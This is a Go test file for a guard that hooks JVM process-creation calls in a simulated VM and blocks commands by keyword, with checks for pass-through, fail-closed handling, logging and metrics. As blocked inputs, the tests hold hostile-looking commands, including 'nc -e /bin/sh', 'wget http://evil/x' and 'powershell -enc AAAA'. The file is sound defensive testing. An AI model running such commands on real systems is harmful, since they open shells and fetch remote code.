package hooks

import (
	"bytes"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/sync/errgroup"

	"github.com/zboralski/raspguard/internal/jvm"
	"github.com/zboralski/raspguard/internal/jvm/sim"
	glog "github.com/zboralski/raspguard/internal/log"
	"github.com/zboralski/raspguard/internal/metrics"
	"github.com/zboralski/raspguard/internal/policy"
)

type createCall struct {
	env      jvm.Env
	clazz    jvm.Class
	cmd      jvm.String
	envBlock jvm.String
	dir      jvm.String
	std      jvm.LongArray
	redirect bool
}

type forkCall struct {
	process  jvm.Object
	mode     int32
	helper   jvm.ByteArray
	prog     jvm.ByteArray
	argBlock jvm.ByteArray
	argc     int32
	envBlock jvm.ByteArray
	envc     int32
	dir      jvm.ByteArray
	fds      jvm.IntArray
	redirect bool
}

type fixture struct {
	vm      *sim.VM
	guard   *Guard
	metrics *metrics.Metrics
	thread  *sim.Thread

	createID jvm.MethodID
	forkID   jvm.MethodID

	mu          sync.Mutex
	audits      []AuditRecord
	createCalls []createCall
	forkCalls   []forkCall
}

func newFixture(t *testing.T, logger *glog.Logger) *fixture {
	t.Helper()
	if logger == nil {
		logger = glog.NewNop()
	}
	f := &fixture{vm: sim.New(), metrics: metrics.New()}
	f.guard = New(Config{
		TI:      f.vm,
		Policy:  policy.MustNew(policy.Default()),
		Logger:  logger,
		Metrics: f.metrics,
		Now:     func() time.Time { return time.Date(2026, 1, 2, 3, 4, 5, 0, time.Local) },
		OnAudit: func(rec AuditRecord) {
			f.mu.Lock()
			defer f.mu.Unlock()
			f.audits = append(f.audits, rec)
		},
	})
	require.NoError(t, f.vm.AddCapabilities(jvm.Capabilities{CanGenerateNativeMethodBindEvents: true}))
	require.NoError(t, f.vm.SetNativeMethodBindCallback(f.guard.OnNativeMethodBind))
	require.NoError(t, f.vm.SetEventNotificationMode(true, jvm.EventNativeMethodBind))

	f.createID = f.vm.DefineMethod(sim.ProcessImplCreate)
	f.forkID = f.vm.DefineMethod(sim.UNIXProcessForkAndExec)
	f.thread = f.vm.NewThread("main", f.vm.ExecStack(sim.Method{Class: "Lcom/example/Shell;", Name: "run", Signature: "(Ljava/lang/String;)V"})...)
	return f
}

// originalCreate records its arguments and returns the command handle, so
// each caller can tell its own result apart.
func (f *fixture) originalCreate(env jvm.Env, clazz jvm.Class, cmd, envBlock, dir jvm.String, std jvm.LongArray, redirect bool) int64 {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.createCalls = append(f.createCalls, createCall{env, clazz, cmd, envBlock, dir, std, redirect})
	return int64(cmd)
}

func (f *fixture) originalForkAndExec(env jvm.Env, process jvm.Object, mode int32, helper, prog, argBlock jvm.ByteArray, argc int32, envBlock jvm.ByteArray, envc int32, dir jvm.ByteArray, fds jvm.IntArray, redirect bool) int32 {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.forkCalls = append(f.forkCalls, forkCall{process, mode, helper, prog, argBlock, argc, envBlock, envc, dir, fds, redirect})
	return 4242
}

func (f *fixture) linkCreate(t *testing.T) jvm.ProcessImplCreateFunc {
	t.Helper()
	entry := f.vm.Link(f.thread, f.createID, jvm.ProcessImplCreateFunc(f.originalCreate))
	fn, ok := entry.(jvm.ProcessImplCreateFunc)
	require.True(t, ok, "bound entry is %T", entry)
	return fn
}

func (f *fixture) linkForkAndExec(t *testing.T) jvm.ForkAndExecFunc {
	t.Helper()
	entry := f.vm.Link(f.thread, f.forkID, jvm.ForkAndExecFunc(f.originalForkAndExec))
	fn, ok := entry.(jvm.ForkAndExecFunc)
	require.True(t, ok, "bound entry is %T", entry)
	return fn
}

func TestCreateBlocksKeyword(t *testing.T) {
	f := newFixture(t, nil)
	create := f.linkCreate(t)

	ret := create(f.thread, 1, f.vm.NewString("curl http://x"), 0, 0, 0, false)

	assert.Equal(t, int64(-1), ret)
	assert.Empty(t, f.createCalls, "original must not run")
	require.Len(t, f.audits, 1)
	rec := f.audits[0]
	assert.Equal(t, "ProcessImpl.create", rec.Target)
	assert.Equal(t, "curl http://x", rec.Command)
	assert.Equal(t, "curl", rec.Keyword)
	assert.Equal(t, ReasonPolicy, rec.Reason)
	assert.NotEqual(t, uuid.Nil, rec.ID)
	require.Len(t, rec.Stack, 4)
	assert.Equal(t, "Ljava/lang/ProcessBuilder;", rec.Stack[0].Class)
	assert.Equal(t, "run", rec.Stack[3].Method)
}

func TestCreateForwardsUnchanged(t *testing.T) {
	f := newFixture(t, nil)
	create := f.linkCreate(t)

	cmd := f.vm.NewString("/bin/ls -la")
	envBlock := f.vm.NewString("PATH=/bin\x00")
	dir := f.vm.NewString("/tmp")
	std := f.vm.NewLongArray([]int64{-1, -1, -1})

	ret := create(f.thread, 77, cmd, envBlock, dir, std, true)

	assert.Equal(t, int64(cmd), ret, "result passes through")
	require.Len(t, f.createCalls, 1)
	assert.Equal(t, createCall{f.thread, 77, cmd, envBlock, dir, std, true}, f.createCalls[0])
	assert.Empty(t, f.audits)
}

func TestCreateNullCommandAllowed(t *testing.T) {
	f := newFixture(t, nil)
	create := f.linkCreate(t)

	ret := create(f.thread, 1, 0, 0, 0, 0, false)

	assert.Equal(t, int64(0), ret)
	assert.Len(t, f.createCalls, 1)
	assert.Empty(t, f.audits)
}

func TestForkAndExecForwardsUnchanged(t *testing.T) {
	f := newFixture(t, nil)
	fork := f.linkForkAndExec(t)

	call := forkCall{
		process:  9,
		mode:     1,
		helper:   f.vm.NewByteArray([]byte("/usr/lib/jvm/lib/jspawnhelper\x00")),
		prog:     f.vm.NewByteArray([]byte("/bin/sh\x00")),
		argBlock: f.vm.NewByteArray([]byte("-c\x00whoami\x00")),
		argc:     2,
		envBlock: f.vm.NewByteArray([]byte("HOME=/root\x00")),
		envc:     1,
		dir:      f.vm.NewByteArray([]byte("/srv\x00")),
		fds:      f.vm.NewIntArray([]int32{0, 1, 2}),
		redirect: true,
	}
	ret := fork(f.thread, call.process, call.mode, call.helper, call.prog, call.argBlock, call.argc, call.envBlock, call.envc, call.dir, call.fds, call.redirect)

	assert.Equal(t, int32(4242), ret)
	require.Len(t, f.forkCalls, 1)
	assert.Equal(t, call, f.forkCalls[0])
	assert.Empty(t, f.audits)
}

func TestForkAndExecBlocks(t *testing.T) {
	f := newFixture(t, nil)
	fork := f.linkForkAndExec(t)

	ret := fork(f.thread, 0, 1,
		f.vm.NewByteArray([]byte("/usr/lib/jvm/lib/jspawnhelper\x00")),
		f.vm.NewByteArray([]byte("/bin/sh\x00")),
		f.vm.NewByteArray([]byte("-c\x00wget\thttp://evil/x\x00")),
		2, 0, 0, 0, 0, false)

	assert.Equal(t, int32(-1), ret)
	assert.Empty(t, f.forkCalls)
	require.Len(t, f.audits, 1)
	assert.Equal(t, "/usr/lib/jvm/lib/jspawnhelper /bin/sh -c wget http://evil/x", f.audits[0].Command)
	assert.Equal(t, "wget", f.audits[0].Keyword)
}

func TestForkAndExecTruncatesLongArgs(t *testing.T) {
	f := newFixture(t, nil)
	fork := f.linkForkAndExec(t)

	// keyword inside the buffer
	long := append(bytes.Repeat([]byte("a"), 100), []byte(" perl")...)
	long = append(long, bytes.Repeat([]byte("b"), 10000)...)
	ret := fork(f.thread, 0, 1, 0, f.vm.NewByteArray([]byte("/bin/sh\x00")), f.vm.NewByteArray(long), 1, 0, 0, 0, 0, false)
	assert.Equal(t, int32(-1), ret)
	require.Len(t, f.audits, 1)
	assert.LessOrEqual(t, len(f.audits[0].Command), 4095)

	// keyword past the buffer
	past := append(bytes.Repeat([]byte("a"), 5000), []byte(" perl")...)
	ret = fork(f.thread, 0, 1, 0, f.vm.NewByteArray([]byte("/bin/sh\x00")), f.vm.NewByteArray(past), 1, 0, 0, 0, 0, false)
	assert.Equal(t, int32(4242), ret)
	assert.Len(t, f.forkCalls, 1)
}

func TestFirstCaptureWins(t *testing.T) {
	f := newFixture(t, nil)

	var firstCalled, secondCalled bool
	first := jvm.ProcessImplCreateFunc(func(jvm.Env, jvm.Class, jvm.String, jvm.String, jvm.String, jvm.LongArray, bool) int64 {
		firstCalled = true
		return 1
	})
	second := jvm.ProcessImplCreateFunc(func(jvm.Env, jvm.Class, jvm.String, jvm.String, jvm.String, jvm.LongArray, bool) int64 {
		secondCalled = true
		return 2
	})

	f.vm.Link(f.thread, f.createID, first)
	entry := f.vm.Link(f.thread, f.createID, second)

	create, ok := entry.(jvm.ProcessImplCreateFunc)
	require.True(t, ok, "second bind still redirected")
	ret := create(f.thread, 0, f.vm.NewString("/bin/true"), 0, 0, 0, false)

	assert.Equal(t, int64(1), ret)
	assert.True(t, firstCalled)
	assert.False(t, secondCalled)
}

func TestFailClosedWithoutOriginal(t *testing.T) {
	f := newFixture(t, nil)

	ret := f.guard.ProcessImplCreate(f.thread, 0, f.vm.NewString("/bin/true"), 0, 0, 0, false)
	assert.Equal(t, int64(-1), ret)

	ret32 := f.guard.UNIXProcessForkAndExec(f.thread, 0, 1, 0, f.vm.NewByteArray([]byte("/bin/true\x00")), 0, 0, 0, 0, 0, 0, false)
	assert.Equal(t, int32(-1), ret32)

	require.Len(t, f.audits, 2)
	for _, rec := range f.audits {
		assert.Equal(t, ReasonOriginalMissing, rec.Reason)
		assert.Empty(t, rec.Keyword)
	}

	samples, err := f.metrics.Snapshot()
	require.NoError(t, err)
	assert.Contains(t, samples, metrics.Sample{Series: `raspguard_fail_closed_total{target="ProcessImpl.create"}`, Value: 1})
}

func TestFailClosedAfterReset(t *testing.T) {
	f := newFixture(t, nil)
	create := f.linkCreate(t)
	f.guard.Reset()

	assert.Empty(t, f.guard.Registry().Captured())
	assert.Equal(t, int64(-1), create(f.thread, 0, f.vm.NewString("/bin/true"), 0, 0, 0, false))
	assert.Empty(t, f.createCalls)
}

func TestUnwatchedMethodUntouched(t *testing.T) {
	f := newFixture(t, nil)

	for _, m := range []sim.Method{
		{Class: "Ljava/lang/ProcessImpl;", Name: "waitForInterruptibly", Signature: "(J)V", Native: true},
		{Class: "Ljava/io/FileInputStream;", Name: "create", Signature: "()V", Native: true},
		{Class: "Lcom/example/Native;", Name: "forkAndExec", Signature: "()I", Native: true},
	} {
		id := f.vm.DefineMethod(m)
		assert.Equal(t, "orig", f.vm.Link(f.thread, id, "orig"), "%s.%s", m.Class, m.Name)
	}
	assert.Empty(t, f.guard.Registry().Captured())
}

func TestBindSkippedWithoutMetadata(t *testing.T) {
	f := newFixture(t, nil)
	f.vm.HideMethodNames = true

	entry := f.vm.Link(f.thread, f.createID, jvm.ProcessImplCreateFunc(f.originalCreate))
	_, redirected := entry.(jvm.ProcessImplCreateFunc)
	assert.True(t, redirected, "entry type is unchanged")
	assert.Empty(t, f.guard.Registry().Captured())

	f.vm.HideMethodNames = false
	f.vm.HideDeclaringClasses = true
	f.vm.Link(f.thread, f.createID, jvm.ProcessImplCreateFunc(f.originalCreate))
	assert.Empty(t, f.guard.Registry().Captured())
}

func TestConcurrentAllowAndBlock(t *testing.T) {
	f := newFixture(t, nil)
	create := f.linkCreate(t)

	const n = 64
	var g errgroup.Group
	for i := 0; i < n; i++ {
		i := i
		g.Go(func() error {
			thread := f.vm.NewThread(fmt.Sprintf("worker-%d", i))
			text := fmt.Sprintf("/opt/app/bin/tool-%d --id=%d", i, i)
			if i%4 == 0 {
				text = fmt.Sprintf("curl http://host/%d", i)
			}
			cmd := f.vm.NewString(text)
			ret := create(thread, jvm.Class(i), cmd, 0, 0, 0, false)
			want := int64(cmd)
			if i%4 == 0 {
				want = -1
			}
			if ret != want {
				return fmt.Errorf("worker %d: got %d, want %d", i, ret, want)
			}
			return nil
		})
	}
	require.NoError(t, g.Wait())

	f.mu.Lock()
	defer f.mu.Unlock()
	assert.Len(t, f.createCalls, n-n/4)
	for _, c := range f.createCalls {
		assert.Equal(t, fmt.Sprintf("/opt/app/bin/tool-%d --id=%d", c.clazz, c.clazz), f.vm.StringValue(c.cmd))
	}
	assert.Len(t, f.audits, n/4)
	for _, rec := range f.audits {
		assert.True(t, strings.HasPrefix(rec.Command, "curl http://host/"), rec.Command)
	}
}

func TestBlockLogOutput(t *testing.T) {
	var console bytes.Buffer
	logger := glog.New(glog.Options{Name: "RASPSimple", Dir: t.TempDir(), Console: &console})
	defer logger.Close()

	f := newFixture(t, logger)
	create := f.linkCreate(t)
	create(f.thread, 0, f.vm.NewString("powershell -enc AAAA"), 0, 0, 0, false)

	out := console.String()
	assert.Contains(t, out, "NativeMethodBind: hooking Ljava/lang/ProcessImpl; create")
	assert.Contains(t, out, "Saved original ProcessImpl.create address")
	assert.Contains(t, out, "Intercepted ProcessImpl.create cmd='powershell -enc AAAA'")
	assert.Contains(t, out, "2026-01-02 03:04:05 Blocked dangerous command at: powershell -enc AAAA")
	assert.Contains(t, out, "=== JVMTI StackTrace (frames=4) ===")
	assert.Contains(t, out, "#0 Ljava/lang/ProcessBuilder;.start ()Ljava/lang/Process; (location=214)")
	assert.Contains(t, out, "#3 Lcom/example/Shell;.run (Ljava/lang/String;)V (location=42)")
	assert.Contains(t, out, "=== End StackTrace ===")
}

func TestMetricsCountDecisions(t *testing.T) {
	f := newFixture(t, nil)
	create := f.linkCreate(t)
	create(f.thread, 0, f.vm.NewString("/bin/ls"), 0, 0, 0, false)
	create(f.thread, 0, f.vm.NewString("nc -e /bin/sh"), 0, 0, 0, false)

	samples, err := f.metrics.Snapshot()
	require.NoError(t, err)
	assert.Contains(t, samples, metrics.Sample{Series: `raspguard_binds_total{target="ProcessImpl.create"}`, Value: 1})
	assert.Contains(t, samples, metrics.Sample{Series: `raspguard_decisions_total{decision="allow",target="ProcessImpl.create"}`, Value: 1})
	assert.Contains(t, samples, metrics.Sample{Series: `raspguard_decisions_total{decision="block",target="ProcessImpl.create"}`, Value: 1})
}

func TestTargetMatches(t *testing.T) {
	assert.True(t, ProcessImplCreate.Matches("Ljava/lang/ProcessImpl;", "create"))
	assert.False(t, ProcessImplCreate.Matches("Ljava/lang/ProcessImpl;", "Create"))
	assert.True(t, UNIXProcessForkAndExec.Matches("Ljava/lang/UNIXProcess;", "forkAndExec"))
	assert.False(t, UNIXProcessForkAndExec.Matches("Ljava/lang/ProcessImpl;", "forkAndExec"))
}

func TestUnnamedOriginalType(t *testing.T) {
	f := newFixture(t, nil)
	called := false
	plain := func(jvm.Env, jvm.Object, int32, jvm.ByteArray, jvm.ByteArray, jvm.ByteArray, int32, jvm.ByteArray, int32, jvm.ByteArray, jvm.IntArray, bool) int32 {
		called = true
		return 7
	}
	entry := f.vm.Link(f.thread, f.forkID, plain)
	fork := entry.(jvm.ForkAndExecFunc)
	assert.Equal(t, int32(7), fork(f.thread, 0, 1, 0, f.vm.NewByteArray([]byte("/bin/date\x00")), 0, 0, 0, 0, 0, 0, false))
	assert.True(t, called)
}
